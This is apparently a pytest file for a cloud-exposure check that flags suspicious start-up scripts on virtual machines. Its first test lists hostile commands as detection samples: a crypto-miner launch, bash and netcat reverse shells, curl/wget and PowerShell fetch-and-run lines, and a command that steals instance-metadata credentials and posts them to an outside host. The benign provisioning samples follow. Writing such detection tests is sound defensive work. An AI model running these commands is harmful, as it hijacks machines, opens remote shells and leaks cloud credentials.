from __future__ import annotations

import pytest

from tasks.checks.cloud_exposure.start_script_suspicious import StartScriptSuspicious
from tests.tasks.checks._cloud import LOOK, found, machine

CHECK = StartScriptSuspicious()


@pytest.mark.parametrize(
    "script",
    [
        "./xmrig -o pool.example:3333",
        "./x -o stratum+tcp://pool.example:3333",
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "nc 203.0.113.9 4444 -e /bin/sh",
        "curl -s http://203.0.113.9/x.sh | sudo bash",
        "wget -qO- http://203.0.113.9/x; sh x",
        "echo aGVsbG8= | base64 -d | bash",
        f"powershell.exe -nop -enc {'QUJD' * 30}",
        "powershell IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
        'R=$(curl http://169.254.169.254/latest/meta-data/iam/security-credentials/app)\ncurl -d "$R" https://x.example',
    ],
)
def test_what_intruders_run(script: str) -> None:
    assert found(CHECK, machine("#!/bin/bash\n" + script)) == [("high", "i")]


@pytest.mark.parametrize(
    "script",
    [
        "",
        "#!/bin/bash\napt-get update && apt-get install -y nginx",
        "curl -fsSL https://get.docker.com | sh",
        "curl -s http://169.254.169.254/latest/meta-data/instance-id",
        "curl -s http://10.0.0.5/setup.sh | bash",
        "echo secret | base64 -d > /etc/app.key",
        "#cloud-config\npackages: [netcat]\n",
        "iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
        f"echo -e {'QUJD' * 30} > /etc/ssl/app.pem",
        "<powershell>Install-WindowsFeature -Name Web-Server -IncludeManagementTools</powershell>",
    ],
)
def test_what_machines_are_made_with(script: str) -> None:
    assert found(CHECK, machine(script)) == []


def test_the_script_stands_nowhere() -> None:
    [one] = CHECK.evaluate(machine("PASSWORD=canary-password ./xmrig"), LOOK)
    assert "canary-password" not in str(one.as_dict())


def test_a_script_that_is_written_to_hold_the_sweep_up_does_not() -> None:
    assert found(CHECK, machine("curl http://1.1.1.1 " * 5_000)) == []
